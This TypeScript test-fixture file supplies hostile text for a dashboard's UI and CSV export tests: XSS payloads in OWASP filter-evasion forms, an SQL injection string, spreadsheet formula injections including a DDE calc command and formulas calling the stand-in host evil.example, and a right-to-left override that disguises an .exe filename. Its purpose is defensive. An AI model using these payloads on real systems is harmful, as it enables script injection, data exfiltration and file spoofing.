/**
 * Text that must reach the dashboard as characters and be shown as text: markup and script,
 * `javascript:` links, spreadsheet formulas (CSV injection), right-to-left text and the
 * U+202E override, emoji. Narratives carry these now and then so the UI and the CSV export
 * are tested against them all the time, not only in a special fixture.
 */

export const hostileSentences: readonly string[] = [
  '<script>alert(1)</script>',
  'He sent this <script>alert(1)</script> in the chat.',
  '<img src=x onerror=alert(1)>',
  'The profile picture was <img src=x onerror=alert(1)> or something like that.',
  '<svg onload=alert(1)>',
  'Click <a href="javascript:alert(1)">here</a> to see the pictures, he wrote.',
  'The link was javascript:alert(1) and nothing happened when she clicked.',
  '"><script>alert(document.cookie)</script>',
  "'; DROP TABLE reports; --",
  '<iframe src="javascript:alert(1)"></iframe>',
  '{{constructor.constructor("alert(1)")()}}',
  '<b>bold</b> <i>italic</i> &amp; &lt;not a tag&gt;',
  // OWASP filter evasion: mixed case, a null byte, entities, data: URLs, mutation XSS.
  'She pasted <ScRiPt>alert(1)</sCrIpT> into the form.',
  'The name field held <scr\u0000ipt>alert(1)</scr\u0000ipt> according to the log.',
  'His bio: <IMG SRC=# oNeRrOr=alert(1)> and a link <a href="JaVaScRiPt:alert(1)">me</a>.',
  'The message was <svg/onload=alert(1)> then nothing.',
  'Link text: <a href="jav&#x09;ascript:alert(1)">x</a> and &#60;script&#62;alert(1)&#60;/script&#62;',
  'He sent data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg== as a "photo".',
  '<details open ontoggle=alert(1)> was in the chat log.',
];

/** Fragments that start a CSV cell with =, +, - or @ (spreadsheet formula injection). */
export const formulaLeadingSentences: readonly string[] = [
  '=HYPERLINK("http://evil.example","click")',
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+SUM(1,2)',
  '-2 stars, this app let a stranger message my son.',
  '-- he wrote this line again and again',
  '@SUM(1,1)',
  '@ 9pm he messaged her again, every night.',
  '=IMPORTXML("http://evil.example/x","//a")',
];

/** Right-to-left scripts, bidi overrides, emoji, other scripts. */
export const unicodeSentences: readonly string[] = [
  'قال لها: تواصلي معي على الخاص ولا تخبري أحداً.',
  'أرسل لها هدايا ثم طلب صوراً خاصة.',
  'הוא ביקש ממנה תמונות ואמר לה לא לספר לאף אחד.',
  'הוא אמר שהוא בן 15 אבל הקול שלו נשמע מבוגר.',
  'The file he sent was called photo\u202Egpj.exe and she opened it.',
  'His name showed as \u202Eyob_ylneirf\u202C in the chat.',
  'He always sends 😘😘😘 and 🎁 emojis.',
  'Her last message was just 😢🙏',
  'They talk in the game all night 🎮👾 and he says he is 14.',
  'Family photo 👨‍👩‍👧 was posted next to her location 📍.',
  'Er schrieb ihr jeden Abend und wollte sie am Bahnhof treffen.',
  'Il lui a promis un travail à Paris avec logement.',
  'Él le dijo que no le contara a su madre.',
  'Он обещал работу за границей и оплатил билет.',
  '他说他也是十五岁，让她不要告诉父母。',
  'Zalgo t̶e̷x̸t̵ ̴h̶e̵r̷e̸ was in his bio.',
  'Mixed: English עברית العربية English again.',
  '\u200Bzero\u200Bwidth\u200Bspaces\u200B in the name.',
];

/** The global an injected script would set; the end-to-end tests check it stays unset. */
export const XSS_CANARY = '__xss';

/**
 * OWASP's XSS filter-evasion cases, each of which sets `window.__xss` (or calls alert) if it
 * ever runs: script in every spelling, event handlers, `javascript:` and `data:` URLs,
 * HTML entities, mixed case, a null byte, mutation-XSS shapes. `hostileLabels` puts them
 * into every text field the mocked API serves (see `withHostileText`).
 */
export const xssPayloads: readonly string[] = [
  '<script>window.__xss=1</script>',
  '<ScRiPt>window.__xss=1</sCrIpT>',
  '<scr\u0000ipt>window.__xss=1</scr\u0000ipt>',
  '<img src=x onerror="window.__xss=1">',
  '<IMG SRC=# oNeRrOr=window.__xss=1>',
  '<svg/onload=window.__xss=1>',
  '"><svg onload=window.__xss=1>',
  '<a href="javascript:window.__xss=1">open</a>',
  '<a href="JaVaScRiPt:window.__xss=1">open</a>',
  '<a href="jav&#x09;ascript:window.__xss=1">open</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">x</a>',
  'javascript:window.__xss=1',
  'data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==',
  '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
  '<object data="javascript:window.__xss=1"></object>',
  '&lt;script&gt;window.__xss=1&lt;/script&gt;',
  '&#60;img src=x onerror=window.__xss=1&#62;',
  '<body onload=window.__xss=1>',
  '<details open ontoggle=window.__xss=1>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  "';window.__xss=1;//",
  '{{constructor.constructor("window.__xss=1")()}}',
];
